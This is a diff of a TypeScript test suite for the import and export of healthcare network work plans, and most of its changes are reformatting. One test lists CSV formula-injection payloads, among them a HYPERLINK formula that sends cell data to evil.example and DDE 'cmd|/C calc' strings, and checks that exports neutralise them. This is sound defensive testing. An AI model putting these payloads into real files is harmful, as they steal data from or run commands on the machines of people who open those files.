@@ -15,9 +15,17 @@ function upload(bytes: Buffer | string, name: string, options?: unknown): FormDa
   return form;
 }
 
-async function download(client: HttpClient, path: string): Promise<{ status: number; type: string | null; disposition: string | null; bytes: Buffer }> {
+async function download(
+  client: HttpClient,
+  path: string,
+): Promise<{ status: number; type: string | null; disposition: string | null; bytes: Buffer }> {
   const res = await fetch(client.base + path, { headers: { cookie: `plexus_session=${client.cookie('plexus_session')}` } });
-  return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), bytes: Buffer.from(await res.arrayBuffer()) };
+  return {
+    status: res.status,
+    type: res.headers.get('content-type'),
+    disposition: res.headers.get('content-disposition'),
+    bytes: Buffer.from(await res.arrayBuffer()),
+  };
 }
 
 describe('work plans: import and export', () => {
@@ -68,7 +76,11 @@ describe('work plans: import and export', () => {
 
   it('previews seed 000 pasted from Word, imports it on confirmation, and links leads to the people who hold the roles', async () => {
     const plan = await newPlan('Objectives and Work Plan 2023–25');
-    const preview = await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(fixture('seed-000-major-trauma.tsv'), 'pasted-table.tsv'));
+    const preview = await manager.request(
+      'POST',
+      `${base}/plans/${plan.id}/import/preview`,
+      upload(fixture('seed-000-major-trauma.tsv'), 'pasted-table.tsv'),
+    );
     expect(preview.status).toBe(200);
     const p = preview.body as ImportPreviewDto;
     expect(p).toMatchObject({ format: 'tsv', ok: true, fileProblems: [], summary: { items: 30, themes: 7, errors: 0, flaggedTimescales: 1 } });
@@ -81,7 +93,11 @@ describe('work plans: import and export', () => {
     // Nothing is saved by a preview.
     expect((await manager.get(`${base}/plans/${plan.id}`)).body.counts.items).toBe(0);
 
-    const imported = await manager.request('POST', `${base}/plans/${plan.id}/import`, upload(fixture('seed-000-major-trauma.tsv'), 'pasted-table.tsv'));
+    const imported = await manager.request(
+      'POST',
+      `${base}/plans/${plan.id}/import`,
+      upload(fixture('seed-000-major-trauma.tsv'), 'pasted-table.tsv'),
+    );
     expect(imported.status).toBe(201);
     expect(imported.body).toMatchObject({ imported: 30, themes: 7, flaggedTimescales: 1 });
     const tree = (await manager.get(`${base}/plans/${plan.id}`)).body as WorkPlanDto;
@@ -129,7 +145,13 @@ describe('work plans: import and export', () => {
 
   it('refuses a mixed file as a whole, naming each bad row, and writes nothing', async () => {
     const plan = await newPlan('Mixed');
-    const csv = ['Theme,Work,Timescale,Lead', 'Quality,Good row,Q1 2024/25,Network Manager', 'Quality,,Q2 2024/25,Network Manager', 'Quality,Another good row,sometime,', 'Quality,,,'].join('\n');
+    const csv = [
+      'Theme,Work,Timescale,Lead',
+      'Quality,Good row,Q1 2024/25,Network Manager',
+      'Quality,,Q2 2024/25,Network Manager',
+      'Quality,Another good row,sometime,',
+      'Quality,,,',
+    ].join('\n');
     const preview = (await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(csv, 'mixed.csv'))).body as ImportPreviewDto;
     expect(preview.ok).toBe(false);
     expect(preview.summary).toMatchObject({ items: 3, errors: 1, flaggedTimescales: 1 });
@@ -174,7 +196,11 @@ describe('work plans: import and export', () => {
     const csv = 'Task,Person,When\nDo the thing,Network Manager,Q1 2024/25\n';
     const guessed = (await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(csv, 'a.csv'))).body as ImportPreviewDto;
     expect(guessed.columns.map((c) => c.field)).toEqual(['work', null, 'timescale']);
-    const res = await manager.request('POST', `${base}/plans/${plan.id}/import`, upload(csv, 'a.csv', { columns: ['work', 'leads', 'timescale'], defaultTheme: 'Delivery' }));
+    const res = await manager.request(
+      'POST',
+      `${base}/plans/${plan.id}/import`,
+      upload(csv, 'a.csv', { columns: ['work', 'leads', 'timescale'], defaultTheme: 'Delivery' }),
+    );
     expect(res.status).toBe(201);
     const tree = (await manager.get(`${base}/plans/${plan.id}`)).body as WorkPlanDto;
     expect(tree.themes[0].title).toBe('Delivery');
@@ -192,11 +218,15 @@ describe('work plans: import and export', () => {
 
   async function buildRichPlan(): Promise<WorkPlanDto> {
     let plan = await newPlan('Round trip');
-    plan = (await manager.post(`${base}/plans/${plan.id}/themes`, { title: 'Quality Strategic Objective', description: 'To improve the quality of care' })).body;
+    plan = (
+      await manager.post(`${base}/plans/${plan.id}/themes`, { title: 'Quality Strategic Objective', description: 'To improve the quality of care' })
+    ).body;
     plan = (await manager.post(`${base}/plans/${plan.id}/themes`, { title: 'Function 5 - Collaboration', description: '' })).body;
     const [quality, collaboration] = plan.themes;
     plan = (await manager.post(`${base}/themes/${quality.id}/objectives`, { number: '1', title: 'To identify Network boundaries' })).body;
-    plan = (await manager.post(`${base}/themes/${quality.id}/objectives`, { number: '2', title: 'To agree Terms of Reference, using "national" templates' })).body;
+    plan = (
+      await manager.post(`${base}/themes/${quality.id}/objectives`, { number: '2', title: 'To agree Terms of Reference, using "national" templates' })
+    ).body;
     const [o1, o2] = plan.themes[0].objectives;
     const items = [
       { themeId: quality.id, work: 'Theme-level work', timescale: 'Ongoing', leads: [{ title: 'Information Analyst Specialist' }] },
@@ -210,14 +240,29 @@ describe('work plans: import and export', () => {
         leads: [{ userId: a.users.manager.id, title: 'Network Manager' }, { userId: a.users.lead.id }],
       },
       { themeId: quality.id, objectiveId: o1.id, work: '=SUM(A1) is not a formula here', timescale: 'April to July 20017' },
-      { themeId: quality.id, objectiveId: o2.id, work: 'Agree Terms of Reference', measures: ['Agreed ToR'], timescale: 'Q4 2023/24 Q4 2024/25', leads: [{ title: 'RSN Board' }] },
-      { themeId: collaboration.id, work: 'Design, deliver and evaluate Annual Network Conferences', measures: ['Annual Conference'], timescale: 'Q3 2023/24 Q3 2024/25', leads: [{ title: 'Conference Lead' }] },
+      {
+        themeId: quality.id,
+        objectiveId: o2.id,
+        work: 'Agree Terms of Reference',
+        measures: ['Agreed ToR'],
+        timescale: 'Q4 2023/24 Q4 2024/25',
+        leads: [{ title: 'RSN Board' }],
+      },
+      {
+        themeId: collaboration.id,
+        work: 'Design, deliver and evaluate Annual Network Conferences',
+        measures: ['Annual Conference'],
+        timescale: 'Q3 2023/24 Q3 2024/25',
+        leads: [{ title: 'Conference Lead' }],
+      },
     ];
     for (const item of items) {
       const res = await manager.post(`${base}/plans/${plan.id}/items`, item);
       expect(res.status).toBe(201);
-      if (item.work.startsWith('Agree')) await manager.post(`${base}/items/${res.body.id}/progress`, { on: '2024-01-10', status: 'complete', narrative: 'Agreed' });
-      if (item.work.startsWith('Design')) await manager.post(`${base}/items/${res.body.id}/progress`, { on: '2024-01-10', status: 'at_risk', narrative: 'Venue not booked' });
+      if (item.work.startsWith('Agree'))
+        await manager.post(`${base}/items/${res.body.id}/progress`, { on: '2024-01-10', status: 'complete', narrative: 'Agreed' });
+      if (item.work.startsWith('Design'))
+        await manager.post(`${base}/items/${res.body.id}/progress`, { on: '2024-01-10', status: 'at_risk', narrative: 'Venue not booked' });
     }
     return (await manager.get(`${base}/plans/${plan.id}`)).body;
   }
@@ -232,7 +277,15 @@ describe('work plans: import and export', () => {
     }));
   }
   function itemShape(i: WorkPlanDto['themes'][number]['items'][number]) {
-    return { work: i.work, measures: i.measures, steps: i.steps, timescale: i.timescale.text, flag: i.timescale.flag, leads: i.leads.map((l) => [l.userId, l.title]), status: i.status };
+    return {
+      work: i.work,
+      measures: i.measures,
+      steps: i.steps,
+      timescale: i.timescale.text,
+      flag: i.timescale.flag,
+      leads: i.leads.map((l) => [l.userId, l.title]),
+      status: i.status,
+    };
   }
 
   it('exports to CSV that imports again to the same plan (round trip)', async () => {
@@ -243,7 +296,18 @@ describe('work plans: import and export', () => {
     expect(csv.disposition).toMatch(/^attachment; filename="wp-imp-round-trip-\d{4}-\d\d-\d\d\.csv"$/);
     const text = csv.bytes.toString('utf8');
     const table = parseDelimited(text.replace(/^\uFEFF/, ''), ',');
-    expect(table[0].slice(0, 10)).toEqual(['Theme', 'Theme description', 'Objective no.', 'Objective', 'Work', 'Measures of success', 'Steps', 'Timescale', 'Leads', 'Status']);
+    expect(table[0].slice(0, 10)).toEqual([
+      'Theme',
+      'Theme description',
+      'Objective no.',
+      'Objective',
+      'Work',
+      'Measures of success',
+      'Steps',
+      'Timescale',
+      'Leads',
+      'Status',
+    ]);
     expect(table.find((r) => r[4]?.includes('SUM'))?.[4]).toBe("'=SUM(A1) is not a formula here");
 
     const copy = await newPlan('Round trip copy');
@@ -252,7 +316,10 @@ describe('work plans: import and export', () => {
     const reimported = (await manager.get(`${base}/plans/${copy.id}`)).body as WorkPlanDto;
     expect(shape(reimported)).toEqual(shape(original));
     // And its export is the same file, line for line, in the columns that describe the plan.
-    const again = parseDelimited((await download(manager, `${base}/plans/${copy.id}/export?format=csv`)).bytes.toString('utf8').replace(/^\uFEFF/, ''), ',');
+    const again = parseDelimited(
+      (await download(manager, `${base}/plans/${copy.id}/export?format=csv`)).bytes.toString('utf8').replace(/^\uFEFF/, ''),
+      ',',
+    );
     expect(again.map((r) => r.slice(0, 10))).toEqual(table.map((r) => r.slice(0, 10)));
   });
 
@@ -264,7 +331,9 @@ describe('work plans: import and export', () => {
       expect(xlsx.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
       const book = new Workbook();
       await book.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
-      expect(book.worksheets.map((s) => s.name)).toEqual(layout === 'themes' ? ['Plan', 'Quality Strategic Objective', 'Function 5 - Collaboration'] : ['Plan', 'Work plan']);
+      expect(book.worksheets.map((s) => s.name)).toEqual(
+        layout === 'themes' ? ['Plan', 'Quality Strategic Objective', 'Function 5 - Collaboration'] : ['Plan', 'Work plan'],
+      );
       const copy = await newPlan(`Excel copy ${layout}`);
       const res = await manager.request('POST', `${base}/plans/${copy.id}/import`, upload(xlsx.bytes, 'export.xlsx'));
       expect(res.status).toBe(201);
@@ -276,10 +345,17 @@ describe('work plans: import and export', () => {
     const book = new Workbook();
     const sheet = book.addWorksheet('My plan');
     sheet.addRow(['Work', 'Metric', 'Timescale', 'Lead']);
-    sheet.addRow([{ richText: [{ text: 'Rich ', font: { bold: true } }, { text: 'text work' }] }, 'A measure', new Date(Date.UTC(2024, 2, 31)), 'Network Manager']);
+    sheet.addRow([
+      { richText: [{ text: 'Rich ', font: { bold: true } }, { text: 'text work' }] },
+      'A measure',
+      new Date(Date.UTC(2024, 2, 31)),
+      'Network Manager',
+    ]);
     sheet.addRow([{ formula: '"Formula work"', result: 'Formula work' }, '', 'Q1 2024/25', '']);
     const plan = await newPlan('Hand-made workbook');
-    const preview = (await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(Buffer.from(await book.xlsx.writeBuffer()), 'mine.xlsx'))).body as ImportPreviewDto;
+    const preview = (
+      await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(Buffer.from(await book.xlsx.writeBuffer()), 'mine.xlsx'))
+    ).body as ImportPreviewDto;
     expect(preview.format).toBe('xlsx');
     expect(preview.rows.map((r) => [r.work, r.timescale.text, r.timescale.kind])).toEqual([
       ['Rich text work', '2024-03-31', 'date'],
@@ -314,13 +390,21 @@ describe('work plans: import and export', () => {
     const items = tree.themes.flatMap((t) => [...t.items, ...t.objectives.flatMap((o) => o.items)]);
     expect(items.map((i) => [i.ref, i.work, i.leads.map((l) => l.label), i.status])).toEqual([
       ['1.1', 'Publish a monthly capacity dashboard', [`Network Manager (${a.users.manager.displayName})`, 'Information Analyst'], 'off_track'],
-      ['1.2', 'Agree repatriation standards with every trauma unit', ['Network Chair', `Network Manager (${a.users.manager.displayName})`], 'at_risk'],
+      [
+        '1.2',
+        'Agree repatriation standards with every trauma unit',
+        ['Network Chair', `Network Manager (${a.users.manager.displayName})`],
+        'at_risk',
+      ],
       ['3.4', 'Run the annual rehabilitation study day', ['Rehab Lead', `Network Manager (${a.users.manager.displayName})`], 'on_track'],
       ['3.5', 'Publish the competency framework', ['Rehab Lead'], 'complete'],
     ]);
     expect(tree.themes[0].objectives.map((o) => o.title)).toEqual(['Reduce delays to definitive care']);
     // The references go out in the export and come back in on import.
-    const csv = parseDelimited((await download(manager, `${base}/plans/${plan.id}/export?format=csv`)).bytes.toString('utf8').replace(/^\uFEFF/, ''), ',');
+    const csv = parseDelimited(
+      (await download(manager, `${base}/plans/${plan.id}/export?format=csv`)).bytes.toString('utf8').replace(/^\uFEFF/, ''),
+      ',',
+    );
     expect(csv[0].at(-1)).toBe('Ref');
     expect(csv.slice(1).map((r) => r.at(-1))).toEqual(['1.1', '1.2', '3.4', '3.5']);
   });
@@ -330,7 +414,10 @@ describe('work plans: import and export', () => {
     plan = (await manager.post(`${base}/plans/${plan.id}/themes`, { title: '+Theme starting with a plus', description: '@description' })).body;
     const themeId = plan.themes[0].id;
     const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click here")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(A1:A2)'];
-    for (const work of hostile) expect((await manager.post(`${base}/plans/${plan.id}/items`, { themeId, work, measures: ['+10% waits'], timescale: 'Q1 2024/25' })).status).toBe(201);
+    for (const work of hostile)
+      expect(
+        (await manager.post(`${base}/plans/${plan.id}/items`, { themeId, work, measures: ['+10% waits'], timescale: 'Q1 2024/25' })).status,
+      ).toBe(201);
 
     const csvBytes = (await download(manager, `${base}/plans/${plan.id}/export?format=csv`)).bytes;
     const rows = parseDelimited(csvBytes.toString('utf8').replace(/^\uFEFF/, ''), ',').slice(1);
@@ -347,7 +434,10 @@ describe('work plans: import and export', () => {
     expect(cells.filter((cell) => formulaLike.test(cell))).toEqual([]);
     expect(cells).toEqual(expect.arrayContaining(hostile.map((w) => `'${w}`)));
 
-    for (const [bytes, name] of [[csvBytes, 'formulas.csv'], [xlsxBytes, 'formulas.xlsx']] as const) {
+    for (const [bytes, name] of [
+      [csvBytes, 'formulas.csv'],
+      [xlsxBytes, 'formulas.xlsx'],
+    ] as const) {
       const copy = await newPlan(`Formulas copy ${name}`);
       expect((await manager.request('POST', `${base}/plans/${copy.id}/import`, upload(bytes, name))).status).toBe(201);
       const tree = (await manager.get(`${base}/plans/${copy.id}`)).body as WorkPlanDto;
